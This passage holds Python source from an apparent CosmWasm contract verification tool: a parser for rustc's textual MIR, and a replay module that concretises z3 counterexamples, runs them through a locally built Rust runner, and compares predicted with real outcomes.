    # s is a rust string literal including quotes
    body = s[1:-1]
    out = []; i = 0
    while i < len(body):
        ch = body[i]
        if ch == '\\':
            n = body[i + 1]
            if n == 'n': out.append('\n'); i += 2
            elif n == 't': out.append('\t'); i += 2
            elif n == 'r': out.append('\r'); i += 2
            elif n == '0': out.append('\0'); i += 2
            elif n == 'x': out.append(chr(int(body[i + 2:i + 4], 16))); i += 4
            elif n == 'u':
                j = body.index('}', i); out.append(chr(int(body[i + 3:j], 16))); i = j + 1
            else: out.append(n); i += 2
        else:
            out.append(ch); i += 1
    return ''.join(out)


def _assert_msg(s):
    m = re.match(r'^"([^"]*)"', s.strip())
    msg = m.group(1) if m else s
    msg = msg.replace('{}', '_').replace('`', '')
    for k, v in (('attempt to compute _ + _, which would overflow', 'attempt to add with overflow'),
                 ('attempt to compute _ - _, which would overflow', 'attempt to subtract with overflow'),
                 ('attempt to compute _ * _, which would overflow', 'attempt to multiply with overflow'),
                 ('attempt to divide _ by zero', 'attempt to divide by zero'),
                 ('attempt to calculate the remainder of _ with a divisor of zero', 'attempt to calculate the remainder with a divisor of zero')):
        if msg.startswith(k[:20]) and k.split(',')[0].split(' ')[-2] in msg: pass
        if msg == k: return v
    return msg


def _def_of_text(callee):
    """best-effort trait-method def name from a textual callee: `<X as Trait<..>>::m::<..>` -> `Trait::m`."""
    s = strip_generics(callee)
    m = re.match(r'^<(.+) as ([^>]+)>::(\w+)$', s)
    if m: return '%s::%s' % (m.group(2), m.group(3))
    return s


BUILTIN_ENUMS = {
    'std::result::Result': ['Ok', 'Err'], 'std::option::Option': ['None', 'Some'],
    'std::ops::ControlFlow': ['Continue', 'Break'], 'std::cmp::Ordering': ['Less', 'Equal', 'Greater'],
    'std::ops::Bound': ['Included', 'Excluded', 'Unbounded'],
}
BUILTIN_VARIANTS = {}
for _e, _vs in BUILTIN_ENUMS.items():
    for _v in _vs: BUILTIN_VARIANTS[_e + '::' + _v] = (_e, _v)
CONSTS = {}
