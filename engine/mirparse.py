"""Parser for rustc's textual MIR (as printed by rustc_middle::mir::pretty::write_mir_pretty with untrimmed paths)
into a small AST.  One call of parse_item() handles the text of one item (its body plus promoteds)."""
import re
from dataclasses import dataclass, field


def split_top(s, sep=','):
    """split s on sep at nesting depth 0 (aware of () [] {} <> and string literals)."""
    out = []; depth = 0; cur = []; i = 0; n = len(s)
    while i < n:
        ch = s[i]
        if ch == '"':
            j = i + 1
            while j < n and s[j] != '"':
                if s[j] == '\\': j += 1
                j += 1
            cur.append(s[i:j + 1]); i = j + 1; continue
        if ch == "'" and i + 2 < n and (s[i + 2] == "'" or (s[i + 1] == '\\' and "'" in s[i + 2:i + 8])):
            j = s.index("'", i + 2 if s[i + 1] != '\\' else i + 3)
            cur.append(s[i:j + 1]); i = j + 1; continue
        if ch in '([{':
            depth += 1
        elif ch in ')]}':
            depth -= 1
        elif ch == '<':
            depth += 1
        elif ch == '>' and not (i > 0 and s[i - 1] in '-='):
            depth -= 1
        if ch == sep and depth == 0:
            out.append(''.join(cur).strip()); cur = []
        else:
            cur.append(ch)
        i += 1
    t = ''.join(cur).strip()
    if t:
        out.append(t)
    return out


def find_matching(s, i):
    """s[i] is an opener; return index of the matching closer."""
    depth = 0; n = len(s); j = i
    while j < n:
        ch = s[j]
        if ch == '"':
            j += 1
            while j < n and s[j] != '"':
                if s[j] == '\\': j += 1
                j += 1
        elif ch in '([{':
            depth += 1
        elif ch in ')]}':
            depth -= 1
            if depth == 0: return j
        elif ch == '<':
            depth += 1
        elif ch == '>' and not (j > 0 and s[j - 1] in '-='):
            depth -= 1
            if depth == 0: return j
        j += 1
    raise ValueError('unbalanced: ' + s[i:i + 120])


def _top(s):
    """s with nested bracket content blanked (to search for top-level tokens)."""
    out = []; depth = 0; i = 0; n = len(s)
    while i < n:
        ch = s[i]
        if ch == '"':
            j = i + 1
            while j < n and s[j] != '"':
                if s[j] == '\\': j += 1
                j += 1
            out.append('"' + '_' * (j - i - 1) + '"' if depth == 0 else '_' * (j - i + 1)); i = j + 1; continue
        if ch in '([{<':
            out.append(ch if depth == 0 else '_'); depth += 1
        elif ch in ')]}' or (ch == '>' and s[i - 1] not in '-='):
            depth -= 1; out.append(ch if depth == 0 else '_')
        else:
            out.append(ch if depth == 0 else '_')
        i += 1
    return ''.join(out)


@dataclass
class Place:
    local: int
    proj: list   # ('deref',) ('field', idx, ty) ('downcast', name) ('index', local) ('constindex', i, from_end) ('subslice', a, b, from_end)


@dataclass
class Fn:
    name: str
    params: list            # [(local, type)]
    ret: str
    locals: dict            # local -> type
    blocks: dict            # bbN -> (stmts, term)
    crate: str = ''
    promoted: dict = field(default_factory=dict)   # idx -> Fn
    side: dict = None       # side-table record from the driver
    closure_of: str = None


def parse_place(s):
    s = s.strip()
    if s.startswith('(*') and s.endswith(')') and find_matching(s, 0) == len(s) - 1:
        inner = parse_place(s[2:-1])
        return Place(inner.local, inner.proj + [('deref',)])
    if s.startswith('*'):
        inner = parse_place(s[1:])
        return Place(inner.local, inner.proj + [('deref',)])
    if s.startswith('(') and find_matching(s, 0) == len(s) - 1:
        body = s[1:-1]
        t = _top(body)
        m = None
        for mm in re.finditer(r'\.(\d+): ', t):
            m = mm; break
        if m is not None:
            base = parse_place(body[:m.start()])
            return Place(base.local, base.proj + [('field', int(m.group(1)), body[m.end():].strip())])
        k = t.rfind(' as ')
        if k >= 0:
            base = parse_place(body[:k])
            return Place(base.local, base.proj + [('downcast', body[k + 4:].strip())])
        return parse_place(body)
    if s.endswith(']') and not s.startswith('['):
        k = s.rindex('[')
        # find matching '[' for the final ']'
        depth = 0; k = len(s) - 1
        while k >= 0:
            if s[k] == ']': depth += 1
            elif s[k] == '[':
                depth -= 1
                if depth == 0: break
            k -= 1
        base = parse_place(s[:k]); inner = s[k + 1:-1]
        m = re.match(r'^_(\d+)$', inner)
        if m: return Place(base.local, base.proj + [('index', int(m.group(1)))])
        m = re.match(r'^(-?)(\d+) of (\d+)$', inner)
        if m: return Place(base.local, base.proj + [('constindex', int(m.group(2)), m.group(1) == '-')])
        m = re.match(r'^(\d+):(-?)(\d*)$', inner)
        if m: return Place(base.local, base.proj + [('subslice', int(m.group(1)), int(m.group(3) or 0), m.group(2) == '-')])
        raise ValueError('index? ' + s)
    m = re.match(r'^_(\d+)$', s)
    if m:
        return Place(int(m.group(1)), [])
    raise ValueError('place? ' + s)


def parse_operand(s):
    s = s.strip()
    if s.startswith('move '): return ('move', parse_place(s[5:]))
    if s.startswith('copy '): return ('copy', parse_place(s[5:]))
    if s.startswith('no_retag copy '): return ('copy', parse_place(s[14:]))
    if s.startswith('const '): return ('const', s[6:].strip())
    return ('fnitem', s)


BINOPS = {'AddWithOverflow', 'SubWithOverflow', 'MulWithOverflow', 'AddUnchecked', 'SubUnchecked', 'MulUnchecked',
          'Add', 'Sub', 'Mul', 'Div', 'Rem', 'BitXor', 'BitAnd', 'BitOr', 'Shl', 'Shr', 'ShlUnchecked', 'ShrUnchecked',
          'Eq', 'Lt', 'Le', 'Ne', 'Ge', 'Gt', 'Cmp', 'Offset'}
UNOPS = {'Not', 'Neg', 'PtrMetadata'}
NULLOPS = {'SizeOf', 'AlignOf', 'OffsetOf', 'UbChecks', 'ContractChecks', 'OverflowChecks'}


def parse_rvalue(s):
    s = s.strip()
    t = _top(s)
    if s.startswith(('move ', 'copy ', 'no_retag copy ', 'const ')):
        k = t.rfind(' as ')
        if k >= 0 and t.endswith(')'):
            m = re.match(r'^(.*) as (.*) \((\w+(?:\(.*\))?)\)$', s)
            if m:
                # make sure the ' as ' we split on is top level
                opnd = s[:k]; rest = s[k + 4:]
                mm = re.match(r'^(.*) \((\w+(?:\(.*\))?)\)$', rest)
                if mm:
                    return ('cast', parse_operand(opnd), mm.group(1), mm.group(2))
        return ('use', parse_operand(s))
    m = re.match(r'^&(mut |raw const |raw mut |fake shallow |fake )?(.*)$', s)
    if m and not s.startswith('&&'):
        return ('ref', (m.group(1) or '').strip(), parse_place(m.group(2)))
    m = re.match(r'^(\w+)\((.*)\)$', s)
    if m:
        head = m.group(1)
        if head in BINOPS:
            a, b = split_top(m.group(2))
            return ('binop', head, parse_operand(a), parse_operand(b))
        if head in UNOPS:
            return ('unop', head, parse_operand(m.group(2)))
        if head == 'discriminant':
            return ('discriminant', parse_place(m.group(2)))
        if head == 'Len':
            return ('len', parse_place(m.group(2)))
        if head == 'CopyForDeref':
            return ('use', ('copy', parse_place(m.group(2))))
        if head in NULLOPS:
            return ('nullop', head, m.group(2))
        if head == 'ShallowInitBox':
            a, b = split_top(m.group(2))
            return ('shallowbox', parse_operand(a), b)
    if s.startswith('(') and find_matching(s, 0) == len(s) - 1:
        return ('tuple', [parse_operand(x) for x in split_top(s[1:-1])])
    if s.startswith('['):
        body = s[1:-1]
        parts = split_top(body, ';')
        if len(parts) == 2:
            return ('repeat', parse_operand(parts[0]), parts[1])
        return ('array', [parse_operand(x) for x in split_top(body)])
    if s.startswith('{closure@') or s.startswith('{coroutine@'):
        j = find_matching(s, 0)
        span = s[:j + 1]
        rest = s[j + 1:].strip()
        caps = []
        if rest.startswith('{'):
            for f in split_top(rest[1:-1]):
                caps.append(parse_operand(f.split(': ', 1)[1]))
        return ('closure', span, caps)
    # Struct { f: op, ... }  |  Path::Variant(op, ..) | Path::Variant | Path::Variant { .. }
    k = t.find(' {')
    if k >= 0 and t.endswith('}'):
        name = s[:k].strip(); body = s[k + 2:-1]
        fields = []
        for f in split_top(body):
            fname, fop = f.split(': ', 1)
            fields.append((fname.strip(), parse_operand(fop)))
        return ('adt', name, fields, 'named')
    k = t.find('(')
    if k >= 0 and t.endswith(')'):
        name = s[:k].strip()
        fields = [(str(i), parse_operand(x)) for i, x in enumerate(split_top(s[k + 1:-1]))]
        return ('adt', name, fields, 'tuple')
    return ('adt', s, [], 'unit')


def parse_targets(s):
    t = {}
    a = s.rfind('-> [')
    if a >= 0:
        body = s[a + 4:s.rindex(']')]
        for part in body.split(', '):
            if ': ' not in part: continue
            k, v = part.split(': ', 1)
            t[k.strip()] = v.strip()
    else:
        m = re.search(r'-> (bb\d+)$', s.strip())
        if m: t['return'] = m.group(1)
    return t


def parse_call(s):
    s = s.strip()
    assert s.endswith(')'), s
    depth = 0; i = len(s) - 1
    while i >= 0:
        ch = s[i]
        if ch == '"':
            i -= 1
            while i >= 0 and not (s[i] == '"' and (i == 0 or s[i - 1] != '\\')): i -= 1
        elif ch in ')]}': depth += 1
        elif ch in '([{':
            depth -= 1
            if depth == 0: break
        elif ch == '>' and s[i - 1] not in '-=': depth += 1
        elif ch == '<': depth -= 1
        i -= 1
    callee = s[:i].strip(); args = [parse_operand(a) for a in split_top(s[i + 1:-1])]
    if callee.startswith('move ') or callee.startswith('copy '):
        callee = parse_operand(callee)          # indirect call through a local (fn pointer)
    return callee, args


NOPS = ('StorageLive', 'StorageDead', 'nop', 'FakeRead', 'PlaceMention', 'Retag', 'AscribeUserType', 'Coverage', 'Deinit',
        'ConstEvalCounter', 'BackwardIncompatibleDropHint')


def parse_line(line):
    s = line.strip()
    if s.endswith(';'): s = s[:-1]
    if s.startswith('goto -> '): return ('goto', s[8:])
    if s == 'return': return ('return',)
    if s == 'unreachable': return ('unreachable',)
    if s == 'resume' or s.startswith('unwind '): return ('resume',)
    if s.startswith('switchInt('):
        j = find_matching(s, s.index('('))
        return ('switch', parse_operand(s[10:j]), parse_targets(s[j:]))
    if s.startswith('drop('):
        j = find_matching(s, 4)
        return ('drop', parse_place(s[5:j]), parse_targets(s[j:]))
    if s.startswith('assert('):
        j = find_matching(s, 6)
        args = split_top(s[7:j])
        cond = args[0]; neg = False
        if cond.startswith('!'): neg = True; cond = cond[1:]
        return ('assert', parse_operand(cond), neg, args[1] if len(args) > 1 else '', parse_targets(s[j:]))
    if s.startswith(NOPS):
        return ('nop',)
    if s.startswith('assume('):
        return ('nop',)
    if s.startswith('discriminant(') and ') = ' in s:
        j = find_matching(s, 12)
        return ('setdiscr', parse_place(s[13:j]), int(s[j + 4:]))
    if s.startswith('copy_nonoverlapping('):
        return ('intrinsic_stmt', s)
    t = _top(s)
    k = t.find(' = ')
    if k < 0:
        if ' -> ' in t:
            a = t.index(' -> ')
            return ('call', None, *parse_call(s[:a]), parse_targets(s[a:]))
        raise ValueError('stmt? ' + s)
    lhs, rhs = s[:k], s[k + 3:]
    tr = t[k + 3:]
    if ' -> [' in tr or ' -> unwind' in tr or re.search(r' -> bb\d+$', tr):
        a = tr.index(' -> ')
        return ('call', parse_place(lhs), *parse_call(rhs[:a]), parse_targets(rhs[a:]))
    return ('assign', parse_place(lhs), parse_rvalue(rhs))


TERMS = ('goto', 'return', 'unreachable', 'resume', 'switch', 'drop', 'assert', 'call')


def parse_item(text, crate=''):
    """text: the pretty-printed MIR of one item (body, promoteds, optional CTFE copy).  Returns (main Fn or None)."""
    main = None; cur = None; bb = None; skip = False
    lines = text.split('\n')
    for line in lines:
        if line.startswith('// MIR FOR CTFE'):
            skip = True; continue
        if not line or line.startswith('//'):
            continue
        if line[0] != ' ' and line != '}':
            cur = None; bb = None
            if line.startswith('fn '):
                hdr = line[3:]
                t = _top(hdr); k = t.index('(')
                name = hdr[:k]
                j = find_matching(hdr, k)
                params = []
                for p in split_top(hdr[k + 1:j]):
                    if not p: continue
                    pl, ty = p.split(': ', 1)
                    params.append((int(pl[1:]), ty))
                ret = hdr[j + 1:].strip()
                ret = ret[3:].rstrip('{').strip() if ret.startswith('->') else '()'
                cur = Fn(name, params, ret, {}, {}, crate)
                cur.locals[0] = ret
                for (l, ty) in params: cur.locals[l] = ty
                if skip and main is not None:
                    cur = Fn(name, params, ret, {}, {}, crate)   # parsed but discarded (CTFE duplicate)
                elif main is None:
                    main = cur
            elif line.startswith('promoted['):
                m = re.match(r'^promoted\[(\d+)\] in (.*?): (.*) = \{$', line)
                if m is None:
                    raise ValueError('promoted hdr? ' + line)
                cur = Fn('%s::promoted[%s]' % (m.group(2), m.group(1)), [], m.group(3), {0: m.group(3)}, {}, crate)
                if main is not None: main.promoted[int(m.group(1))] = cur
            elif line.startswith('const ') or line.startswith('static '):
                hdr = line.split(' ', 1)[1]
                if hdr.startswith('mut '): hdr = hdr[4:]
                t = _top(hdr); k = t.index(': ')
                name = hdr[:k]; rest = hdr[k + 2:]
                if rest.rstrip().endswith('= {'):
                    ty = rest.rstrip()[:-3].strip()
                    cur = Fn(name, [], ty, {0: ty}, {}, crate)
                    pm = re.match(r'^(.*)::promoted\[(\d+)\]$', name)
                    if pm and main is not None: main.promoted[int(pm.group(2))] = cur
                    elif main is None: main = cur
                else:
                    m = re.match(r'^(.*) = const (.*);$', rest)
                    if m:
                        c = Fn(name, [], m.group(1), {0: m.group(1)},
                               {'bb0': ([('assign', Place(0, []), ('use', ('const', m.group(2))))], ('return',))}, crate)
                        if main is None: main = c
            elif line.startswith('alloc') or line.startswith('}'):
                pass
            continue
        if cur is None:
            continue
        s = line.strip()
        if bb is None:
            m = re.match(r'^let (mut )?_(\d+): (.*);$', s)
            if m:
                cur.locals[int(m.group(2))] = m.group(3); continue
            m = re.match(r'^(bb\d+)( \(cleanup\))?: \{$', s)
            if m:
                bb = m.group(1); cur.blocks[bb] = ([], None, bool(m.group(2)))
            elif line == '}':
                cur = None
            continue
        if s == '}':
            stmts, term, cl = cur.blocks[bb]
            if cl: del cur.blocks[bb]
            else: cur.blocks[bb] = (stmts, term)
            bb = None; continue
        if cur.blocks[bb][2]:
            continue    # cleanup blocks (unwinding) are never executed: a panic aborts the transaction
        st = parse_line(s)
        stmts, term, cl = cur.blocks[bb]
        if st[0] in TERMS:
            cur.blocks[bb] = (stmts, st, cl)
        else:
            stmts.append(st)
    return main
