"""Native replay: concretise a symbolic scenario under a solver model, run the real contract entry point through the
Rust runner (/verif/replay), and compare the interpreter's predicted outcome with the real one (translation validation).
A solver counterexample is only reported as a VIOLATION after this comparison agrees."""
import base64, json, os, re, subprocess, fcntl, time
import z3

from .values import *
from .frontend import VERIF, CACHE
from .models_cw import MapStore, World

RUNNER_DIR = os.path.join(VERIF, 'replay')
TARGET = os.path.join(CACHE, 'target-replay')
CS = 'cosmwasm_std::'


def build_runner(release=False, quiet=True):
    """(re)build the runner against /repo's current working tree (cargo decides what is stale)."""
    env = dict(os.environ); env.update(CARGO_NET_OFFLINE='true', CARGO_TARGET_DIR=TARGET)
    env.pop('RUSTFLAGS', None)
    lock = open(os.path.join(CACHE, 'replay.lock'), 'w'); fcntl.flock(lock, fcntl.LOCK_EX)
    try:
        if not os.path.exists(os.path.join(RUNNER_DIR, 'Cargo.lock')):
            subprocess.check_call(['cp', '/repo/Cargo.lock', os.path.join(RUNNER_DIR, 'Cargo.lock')])
        cmd = ['cargo', 'build', '--offline', '-q'] + (['--release'] if release else [])
        r = subprocess.run(cmd, cwd=RUNNER_DIR, env=env, capture_output=True, text=True)
        if r.returncode != 0:
            raise RuntimeError('replay runner does not build:\n' + r.stderr[-3000:])
    finally:
        fcntl.flock(lock, fcntl.LOCK_UN)
    return os.path.join(TARGET, 'release' if release else 'debug', 'replay')


def run_scenarios(scs, release=False):
    exe = build_runner(release)
    r = subprocess.run([exe], input=json.dumps(scs), capture_output=True, text=True)
    if r.returncode != 0:
        open(os.path.join(CACHE, 'last_failed_scenarios.json'), 'w').write(json.dumps(scs, indent=1))
        raise RuntimeError('replay runner failed: ' + r.stderr[-2000:])
    return [json.loads(l) for l in r.stdout.strip().split('\n') if l.strip()]


# ------------------------------------------------------------------------------------------------
# concretisation
# ------------------------------------------------------------------------------------------------
class Concretizer:
    def __init__(self, model):
        self.model = model
        self.names = {v: k for k, v in Str.INTERN.items()}

    def num(self, t):
        if isinstance(t, bool): return t
        if isinstance(t, int): return t
        v = self.model.eval(t, model_completion=True)
        if z3.is_bool(v): return z3.is_true(v)
        return v.as_long()

    def string(self, s):
        if s.sym is None: return s.s
        if s.parts is not None:
            out = []
            for part in s.parts:
                if isinstance(part, str): out.append(part)
                elif isinstance(part, tuple):
                    n = self.num(part[1]); out.append(dec_str(n) if part[0] == 'dec' else str(n))
                else: out.append(self.string(part))
            return ''.join(out)
        k = self.num(s.sym)
        if k in self.names and self.names[k] is not None: return self.names[k]
        return 'sym%d' % k if k >= 0 else 'symneg%d' % (-k)

    def val(self, v):
        if isinstance(v, Ref): return self.val(v.get())
        if isinstance(v, bool) or v is None: return v
        if isinstance(v, int): return v
        if is_sym(v): return self.num(v)
        if isinstance(v, Str): return Str(self.string(v), canon=(True if v.canon is True else [self.val(x) for x in v.canon] if v.canon else None))
        if isinstance(v, Agg): return Agg(v.name, [self.val(x) for x in v.fields])
        if isinstance(v, Enum): return Enum(v.name, v.variant, [self.val(x) for x in v.fields])
        if isinstance(v, VecV): return VecV([self.val(x) for x in v.items])
        if isinstance(v, MapV): return MapV(v.kind, [[self.val(k), self.val(x)] for k, x in v.pairs])
        if isinstance(v, Opaque): return Opaque(v.tag, self.val(v.payload))
        if isinstance(v, (list, tuple)): return [self.val(x) for x in v]
        return v


# ------------------------------------------------------------------------------------------------
# serde conventions
# ------------------------------------------------------------------------------------------------
def snake(n):
    out = []
    for i, ch in enumerate(n):
        if ch.isupper():
            if i > 0: out.append('_')
            out.append(ch.lower())
        else: out.append(ch)
    return ''.join(out)


def dec_str(x):
    w, f = divmod(x, E18)
    if f == 0: return str(w)
    return ('%d.%018d' % (w, f)).rstrip('0')


class Serde:
    def __init__(self, prog): self.prog = prog

    def tj(self, v, ty=None):
        """JSON value (python) of a concrete interpreter value following serde / cw_serde conventions."""
        if isinstance(v, Ref): v = v.get()
        if v is None: return None
        if isinstance(v, bool): return v
        if isinstance(v, int):
            if ty and ty.strip() in ('u128', 'i128'): return str(v)
            return v
        if isinstance(v, Str): return list(raw_bytes(v)) if v.canon else v.s
        if isinstance(v, VecV): return [self.tj(x) for x in v.items]
        if isinstance(v, MapV): return {str(self.tj(k)): self.tj(x) for k, x in v.pairs}
        if isinstance(v, Opaque):
            if v.tag == 'json': return self.binary(v)
            raise ValueError('cannot serialise opaque %r' % (v,))
        if isinstance(v, Agg):
            n = v.name; short = n.split('::')[-1]
            if n.startswith(CS) and short in ('Uint64', 'Uint128', 'Uint256', 'Uint512'): return str(v.fields[0])
            if n.startswith(CS) and short in ('Decimal', 'Decimal256'): return dec_str(v.fields[0])
            if n == CS + 'Addr': return v.fields[0].s
            if n == CS + 'CanonicalAddr': return base64.b64encode(mock_canonicalize(v.fields[0].s)).decode()
            if n == CS + 'Timestamp': return str(v.fields[0].fields[0])
            if n == CS + 'Binary': return self.binary(v.fields[0])
            if n in ('tuple', 'array'): return [self.tj(x) for x in v.fields]
            if n == 'Box': return self.tj(v.fields[0])
            if n == 'bytes_of_u64': return list(v.fields[0].to_bytes(8, 'big'))
            rec = self.prog.adts.get(n)
            if rec is None: raise ValueError('no ADT record for ' + n)
            fs = rec['variants'][0]['fields']
            if len(fs) == 1 and fs[0][0] == '0': return self.tj(v.fields[0], fs[0][1])
            if fs and fs[0][0] == '0': return [self.tj(x, f[1]) for x, f in zip(v.fields, fs)]
            return {f[0]: self.tj(x, f[1]) for x, f in zip(v.fields, fs)}
        if isinstance(v, Enum):
            if v.name == 'std::option::Option': return None if v.variant == 'None' else self.tj(v.fields[0], ty)
            rec = self.prog.adts.get(v.name)
            tag = snake(v.variant)
            if v.name.endswith('SubMsgResult') and v.variant == 'Err': tag = 'error'      # #[serde(rename = "error")]
            if rec is None:
                if not v.fields: return tag
                raise ValueError('no ADT record for enum ' + v.name)
            for var in rec['variants']:
                if var['name'].split('::')[-1] == v.variant:
                    ctor = var.get('ctor', 'none'); fs = var['fields']
                    if ctor == 'const': return tag
                    if ctor == 'fn':
                        if len(fs) == 1: return {tag: self.tj(v.fields[0], fs[0][1])}
                        return {tag: [self.tj(x, f[1]) for x, f in zip(v.fields, fs)]}
                    return {tag: {f[0]: self.tj(x, f[1]) for x, f in zip(v.fields, fs)}}
            raise ValueError('variant %s of %s' % (v.variant, v.name))
        raise ValueError('cannot serialise %r' % (v,))

    def binary(self, p):
        if isinstance(p, Opaque) and p.tag == 'json':
            return base64.b64encode(json.dumps(self.tj(p.payload), separators=(',', ':')).encode()).decode()
        if isinstance(p, Opaque) and p.tag == 'bytes':
            x = p.payload
            items = x.items if isinstance(x, VecV) else (x.fields if isinstance(x, Agg) else [])
            return base64.b64encode(bytes(items)).decode()
        if isinstance(p, Opaque) and p.tag == 'exec_data':
            if p.payload is None: return base64.b64encode(b'').decode()
            js = json.dumps(self.tj(p.payload), separators=(',', ':')).encode()
            n = len(js); var = b''
            while True:
                b7 = n & 0x7f; n >>= 7
                var += bytes([b7 | (0x80 if n else 0)])
                if not n: break
            return base64.b64encode(b'\x0a' + var + js).decode()
        if isinstance(p, Opaque) and p.tag == 'instantiate_data':
            addr, data = p.payload if isinstance(p.payload, (tuple, list)) else (p.payload, None)
            out = b'\x0a' + bytes([len(addr.s)]) + addr.s.encode()
            if data is not None:
                js = json.dumps(self.tj(data), separators=(',', ':')).encode()
                assert len(js) < 128
                out += b'\x12' + bytes([len(js)]) + js
            return base64.b64encode(out).decode()
        raise ValueError('binary payload %r' % (p,))


def kbytes(p):
    if isinstance(p, Ref): p = p.get()
    if isinstance(p, Str): return raw_bytes(p)
    if isinstance(p, bool): return bytes([int(p)])
    if isinstance(p, int): return p.to_bytes(8, 'big')
    if isinstance(p, Agg):
        if p.name in (CS + 'Addr',): return p.fields[0].s.encode()
        if p.name == 'bytes_of_u64': return p.fields[0].to_bytes(8, 'big')
        if p.name in (CS + 'Uint64',): return p.fields[0].to_bytes(8, 'big')
        if p.name in ('array', 'tuple'): return bytes(p.fields)
    if isinstance(p, VecV): return bytes(p.items)
    raise ValueError('key part %r' % (p,))


def map_key(ns, parts):
    nb = ns.encode(); out = len(nb).to_bytes(2, 'big') + nb
    for p in parts[:-1]:
        b = kbytes(p); out += len(b).to_bytes(2, 'big') + b
    return out + kbytes(parts[-1])


def storage_dump(prog, world, conc):
    """[(hexkey, json)] of a (symbolic) world under the concretizer."""
    sd = Serde(prog); out = []
    for ns, v in world.storage.items():
        if isinstance(v, MapStore):
            for parts, val in v.entries:
                out.append([map_key(ns, [conc.val(p) for p in parts]).hex(), sd.tj(conc.val(val))])
        elif isinstance(v, Agg) and v.name == 'cw2::ContractVersion':
            out.append([ns.encode().hex(), {'contract': conc.string(v.fields[0]), 'version': conc.string(v.fields[1])}])
        else:
            out.append([ns.encode().hex(), sd.tj(conc.val(v))])
    for ns, hs in world.hooks.items():
        out.append([ns.encode().hex(), [conc.string(h) if isinstance(h, Str) else h for h in hs]])
    for ns, adm in world.admin.items():
        out.append([ns.encode().hex(), sd.tj(conc.val(adm))])
    return sorted(out)


def snapshot(world):
    w = World(world.contract)
    for ns, v in world.storage.items():
        w.storage[ns] = MapStore([(list(k), dup(x)) for k, x in v.entries]) if isinstance(v, MapStore) else dup(v)
    w.bank = list(world.bank); w.cw20 = list(world.cw20); w.cw20_info = {k: dict(v) for k, v in world.cw20_info.items()}
    w.allow = list(world.allow); w.supply = dict(world.supply); w.hooks = {k: list(v) for k, v in world.hooks.items()}
    w.admin = {k: dup(v) for k, v in world.admin.items()}
    w.smart_table = list(getattr(world, 'smart_table', []))
    w.cinfo = getattr(world, 'cinfo', None)
    return w


def scenario(prog, sc, model):
    """sc: dict(contract, entry, pre (World snapshot), env, info, msg) with symbolic values -> runner JSON."""
    conc = Concretizer(model); sd = Serde(prog); w = sc['pre']
    smart = []
    for t, h, amt in w.cw20:
        smart.append([conc.string(t), {'balance': {'address': conc.string(h)}}, {'balance': str(conc.num(amt))}])
    for t, info in w.cw20_info.items():
        smart.append([t, {'token_info': {}}, {'name': 'token', 'symbol': 'TKN', 'decimals': info.get('decimals', 6),
                                              'total_supply': str(conc.num(info['total_supply']))}])
    for t, o, s, amt in w.allow:
        smart.append([conc.string(t), {'allowance': {'owner': conc.string(o), 'spender': conc.string(s)}},
                      {'allowance': str(conc.num(amt)), 'expires': {'never': {}}}])
    for addr, q, resp in getattr(w, 'smart_table', []):
        if isinstance(resp, Opaque) and resp.tag == 'query_error': rj = {'__error__': 'query failed'}
        else: rj = sd.tj(conc.val(resp)) if not isinstance(resp, dict) else resp
        smart.append([conc.string(addr) if isinstance(addr, Str) else addr, sd.tj(conc.val(q)), rj])
    for a, d, x in w.bank:
        if not (0 <= conc.num(x) < 2 ** 128): raise ValueError('pre-state bank balance out of u128 range: the harness pre-state is under-constrained')
    for t, h, x in w.cw20:
        if not (0 <= conc.num(x) < 2 ** 128): raise ValueError('pre-state cw20 balance out of u128 range: the harness pre-state is under-constrained')
    env = conc.val(sc['env']); info = conc.val(sc['info']) if sc.get('info') is not None else None
    out = dict(contract=sc['contract'], entry=sc['entry'], storage=storage_dump(prog, w, conc),
               bank=[[conc.string(a), conc.string(d), str(conc.num(x))] for a, d, x in w.bank],
               supply=[[d, str(conc.num(x))] for d, x in w.supply.items()], smart=smart,
               env=dict(height=env.fields[0].fields[0], time_nanos=str(env.fields[0].fields[1].fields[0].fields[0]),
                        contract=env.fields[2].fields[0].fields[0].s),
               info=dict(sender=info.fields[0].fields[0].s, funds=sd.tj(info.fields[1])) if info is not None else dict(sender='nobody', funds=[]),
               msg=sd.tj(conc.val(sc['msg'])))
    if getattr(w, 'cinfo', None): out['contract_info'] = dict(code_id=w.cinfo['code_id'], creator=w.cinfo['creator'], admin=w.cinfo.get('admin'), pinned=False, ibc_port=None)
    return out, conc


# ------------------------------------------------------------------------------------------------
# comparison predicted vs real
# ------------------------------------------------------------------------------------------------
def _decode_msgs(x):
    """decode base64 `msg` payloads inside a serialised response so they compare as JSON, not as text."""
    if isinstance(x, dict):
        out = {}
        for k, v in x.items():
            if k == 'msg' and isinstance(v, str):
                try: out[k] = json.loads(base64.b64decode(v)); continue
                except Exception: pass
            out[k] = _decode_msgs(v)
        return out
    if isinstance(x, list): return [_decode_msgs(y) for y in x]
    return x


def err_variant(e):
    from .harness import err_name
    return err_name(e)


def compare(prog, path, conc, real):
    """list of human readable mismatches between the interpreter's prediction for `path` and the runner's result."""
    sd = Serde(prog); mism = []
    res = real['result']
    kind = res['outcome']
    if path.kind == 'panic':
        if kind != 'panic': mism.append('predicted panic(%s), real %s %s' % (path.msg[:60], kind, str(res)[:200]))
        return mism
    if path.kind != 'ret': return ['path kind ' + path.kind]
    v = path.value
    if v.variant == 'Err':
        if kind != 'err': mism.append('predicted Err(%s), real %s %s' % (err_variant(v.fields[0]), kind, str(res)[:200]))
        else:
            top = err_variant(v.fields[0]).split('(')[0]
            if not res['error'].startswith(top) and top not in ('StdError::from', 'from') and not top.startswith('StdError') \
                    and not top.startswith('from:'):
                mism.append('predicted Err(%s), real Err(%s)' % (err_variant(v.fields[0]), res['error'][:120]))
        return mism
    if kind != 'ok':
        return ['predicted Ok, real %s' % (str(res)[:300])]
    ok = v.fields[0]
    if isinstance(ok, Agg) and ok.name == CS + 'Response':
        pm = [_decode_msgs(sd.tj(conc.val(sm))) for sm in ok.fields[0].items]
        rm = _decode_msgs(res['response']['messages'])
        if len(pm) != len(rm): mism.append('message count predicted %d real %d' % (len(pm), len(rm)))
        for i, (a, b) in enumerate(zip(pm, rm)):
            if a != b: mism.append('message %d differs:\n  predicted %s\n  real      %s' % (i, json.dumps(a, sort_keys=True)[:600], json.dumps(b, sort_keys=True)[:600]))
        pa = ok.fields[1].items; ra = res['response']['attributes']
        if len(pa) != len(ra): mism.append('attribute count predicted %d real %d' % (len(pa), len(ra)))
        for a, b in zip(pa, ra):
            k, v = deref(a.fields[0]), deref(a.fields[1])
            if isinstance(k, Str) and k.s is not None and k.s != b['key']: mism.append('attribute key predicted %s real %s' % (k.s, b['key']))
